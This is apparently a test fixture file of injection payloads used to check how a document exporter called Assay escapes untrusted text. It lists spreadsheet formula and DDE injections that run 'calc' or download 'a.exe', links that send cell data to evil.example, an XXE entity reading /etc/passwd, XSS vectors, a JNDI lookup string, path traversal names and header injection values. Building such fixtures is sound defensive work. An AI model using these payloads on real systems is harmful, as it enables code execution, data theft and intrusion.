/**
 * What people have made programs do with texts of others: formulas and links of spreadsheets, markup of every format that
 * Assay writes, characters that a format or a reader loses, and names that leave their folder.
 */

const starts = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', '\r\n=', ' =', '\u00a0=', '\u0000=', '\u001b=', '\ufeff=', '\u200b='],
  ...['＝', '＋', '－', '＠', '"=', "'=", "''=", '%0A=', ';=', ',=', '|', '\u2028='],
];

const bodies = [
  'HYPERLINK("http://evil.example/?x="&A1,"click")',
  "cmd|' /C calc'!A0",
  "SUM(1+9)*cmd|' /C calc'!A0",
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  "'file:///etc/passwd'#$passwd.A1",
  'WEBSERVICE("http://evil.example/"&A1)',
  'INDIRECT("A1")',
  '[evil.xlsx]Sheet1!A1',
  'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example","a.exe",0,0)',
];

const escapes = [
  ...['_x003D_1+1', '_x000D_=1', '_x0000_', '_x005F_x003D_1', '_xD83D_', 'a_x0009_b', '_X003D_1', '_x003d_1+1'],
  ...['&#61;1+1', '&equals;1', '&#x3D;1', '&amp;#61;', '%3D1%2B1', '\\u003d1+1', '\\x3d1', '=\\n1'],
];

const markup = [
  '</t></si><si><t>=1+1</t>',
  '</v><f>1+1</f><v>',
  '<f>HYPERLINK("http://evil.example")</f>',
  ']]>&lt;f&gt;1+1',
  '<![CDATA[=1+1]]>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '<?xml version="1.0"?><x/>',
  '<!-- --><!--> -->',
  '</text:p><text:a xlink:href="http://evil.example">a</text:a>',
  '" table:formula="of:=1+1',
  '"><table:table-cell table:formula="of:=1"/>',
  '</table:table><table:table table:name="More">',
  '<definedName name="evil">1</definedName>',
  '<Relationship TargetMode="External" Target="http://evil.example"/>',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="http://evil.example"></iframe>',
  '<style>@import "http://evil.example"</style>',
  '</title></head><body onload=alert(1)>',
  '</w:t></w:r><w:r><w:instrText>HYPERLINK "http://evil.example"</w:instrText>',
  '<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"/>',
  '{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK "http://evil.example"}}}',
  '\\par\\b bold\\b0',
  '{\\object\\objocx}',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another program is what this is
  '${jndi:ldap://evil.example/a}',
  '{"formula":"1+1"}',
  '{"hyperlink":"http://evil.example","text":"x"}',
  '{"richText":[{"text":"x"}]}',
  '{"error":"#N/A"}',
  'http://evil.example/',
  'mailto:a@evil.example',
  'file:///etc/passwd',
  '\\\\evil.example\\share\\a.xlsx',
  '&L&G&"Arial"&10=1',
  '&P of &N && &[File]',
  '#REF!',
  '#N/A',
  'TRUE',
  'FALSE',
  '1,234.50',
  '£1',
  '50%',
  'Jan-1',
  '12:30',
  '1e999',
  '0x10',
  '007',
  '2027-01-22',
  '1/2',
  '12345678901234567890',
  'NaN',
  'null',
  '__proto__',
  'constructor',
];

const characters = [
  ...['\u202e=1+1', '\u202dabc\u202c', 'a\u0000b', 'a\u0007b\u001fc', 'a\u007fb', 'a\u0085b', 'a\u2028b\u2029c'],
  ...['a\ufffeb\uffff', '👩🏽‍🚀 é e\u0301 ﷺ', '\ufeffmark', 'zero\u200bwidth'],
  ...['tab\tin\tside', 'one\r\ntwo\rthree\nfour', '\n\n\nafter lines', 'before lines\n\n', '  two  blanks  ', '\u00a0'],
  ...[' ', "'", "''quoted''", '"', '""', '"a","b"', 'a,b;c\td', '"open', 'a"b', 'x\n"y",z\r\n', '%s%n%x', '-- ;'],
];

const names = [
  ...[
    '../../etc/passwd',
    '..\\..\\windows\\system32',
    '/etc/passwd',
    'C:\\a.txt',
    '.',
    '..',
    '.hidden',
    'CON',
    'NUL.txt',
  ],
  ...["Sheet1'!A1", "'Rules'!A1", '[Book]Sheet', 'a/b\\c?d*e[f]g:h', 'History', 'Print_Area', '_xlnm.Print_Titles'],
  ...[
    'name\r\nSet-Cookie: a=b',
    'name"; filename="evil.exe',
    'report.xlsx.exe',
    'a'.repeat(300),
    'A1',
    'R1C1',
    'xlfn.A',
  ],
];

/** With half of a character, which no document and no answer can hold, but a file from outside can. */
export const halfPayloads: readonly string[] = ['half \ud83d here', 'half \ude00 there', '=\ud83d'];

/** Longer than a cell of a spreadsheet may be; one has a character of two halves where it is cut. */
export const longPayloads: readonly string[] = [
  '=1+1'.repeat(9_000),
  `${'x'.repeat(31_999)}🏙${'y'.repeat(1_000)}`,
  `${'-'.repeat(32_768)}`,
  `${'line\n'.repeat(14_000)}end`,
];

export const payloads: readonly string[] = [
  ...starts.map((start) => `${start}1+1`),
  ...bodies.flatMap((body) => ['=', '+', '-', '@', '\t='].map((start) => `${start}${body}`)),
  ...escapes,
  ...markup,
  ...characters,
  ...names,
];
